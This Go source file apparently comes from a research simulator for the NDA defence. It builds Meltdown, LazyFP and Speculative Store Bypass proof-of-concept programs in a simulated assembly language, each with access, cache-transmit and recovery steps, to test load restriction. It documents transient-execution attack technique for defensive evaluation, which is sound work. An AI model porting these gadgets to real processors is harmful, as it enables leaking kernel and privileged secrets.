package attack

import (
	"nda/internal/isa"
	"nda/internal/ooo"
)

// specMeltdown builds the Listing 2 PoC: a user-mode load of a kernel byte.
// On vulnerable hardware (Params.MeltdownVulnerable) the loaded value flows
// to wrong-path dependents before the permission fault is taken at commit;
// the dependents transmit it through the D-cache. A cold load ahead of the
// faulting load keeps it away from the ROB head long enough for the
// transmit to land (the standard Meltdown retirement-delay trick).
func specMeltdown() *poc {
	src := `
        .data
        .org 0x100000
cold:   .word64 7            # flushed, to delay the fault at commit
        .org 0x102000
        .kernel
ksecret: .byte 42            # kernel-only page
` + dataCommon + `
        .text
main:   la   t0, handler
        wrmsr 0x0, t0        # install the fault handler
` + flushProbe + `
        la   s2, cold
        clflush (s2)
        la   s3, ksecret
        la   s4, probe
        ld   t6, (s2)        # cold: blocks retirement for ~140 cycles
        lbu  t1, (s3)        # ACCESS: faulting kernel load (data forwards!)
        slli t1, t1, 9
        add  t2, s4, t1
        lbu  t3, (t2)        # TRANSMIT: lands before the fault commits
        halt                 # never reached: the fault vectors to handler

handler:
` + recoverCache + `
        halt
`
	p := newPoC(src, 40)
	p.warm = func(c *ooo.Core) {
		// The kernel recently touched its own secret: the line is warm
		// (Meltdown reads leak from the cache, not from DRAM).
		c.Hierarchy().Data(0x102000)
	}
	return p
}

// specLazyFP builds the LazyFP / Meltdown-v3a analogue: a privileged RDMSR
// whose value flows to wrong-path dependents before the privilege fault is
// taken. NDA treats RDMSR like a load (§4.3), so load restriction blocks it.
func specLazyFP() *poc {
	src := `
        .data
        .org 0x100000
cold:   .word64 7
` + dataCommon + `
        .text
main:   la   t0, handler
        wrmsr 0x0, t0
` + flushProbe + `
        la   s2, cold
        clflush (s2)
        la   s4, probe
        ld   t6, (s2)        # blocks retirement
        rdmsr t1, 0x10       # ACCESS: privileged MSR read, faults at commit
        andi t1, t1, 0xff
        slli t1, t1, 9
        add  t2, s4, t1
        lbu  t3, (t2)        # TRANSMIT
        halt

handler:
` + recoverCache + `
        halt
`
	p := newPoC(src, 40)
	p.start.MSR[isa.MSRSecretKey] = SecretByte // the privileged register RDMSR reads
	return p
}

// specSSB builds the Speculative Store Bypass (Spectre v4) PoC: a
// sanitizing store's address resolves slowly, a younger load to the same
// location speculatively bypasses it and reads the stale secret, and the
// dependents transmit it before the memory-order violation squashes them.
func specSSB() *poc {
	src := `
        .data
        .org 0x100000
slot:   .word64 42           # stale secret still in the slot
        .word64 0            # slot+8: same line, no secret
        .org 0x101000
cold:   .word64 7
` + dataCommon + `
        .text
main:   la   s4, slot
        ld   t4, 8(s4)       # victim activity keeps the slot's line warm
` + flushProbe + `
        la   s3, slot        # (after flushProbe: it clobbers s1-s3)
        la   s2, cold
        clflush (s2)
        la   s4, probe
        # Sanitizing store whose address depends on a cold load:
        ld   t6, (s2)        # ~140 cycles
        andi t6, t6, 0       # == 0, but dependent on the cold load
        add  t5, s3, t6      # t5 = slot, resolved late
        sd   zero, (t5)      # store: address unresolved for ~140 cycles
        # The victim's subsequent use of the slot:
        ld   t1, (s3)        # ACCESS: bypasses the store, reads stale 42
        andi t1, t1, 0xff
        slli t1, t1, 9
        add  t2, s4, t1
        lbu  t3, (t2)        # TRANSMIT (squashed later, trace remains)
` + recoverCache + `
        halt
`
	return newPoC(src, 40)
}
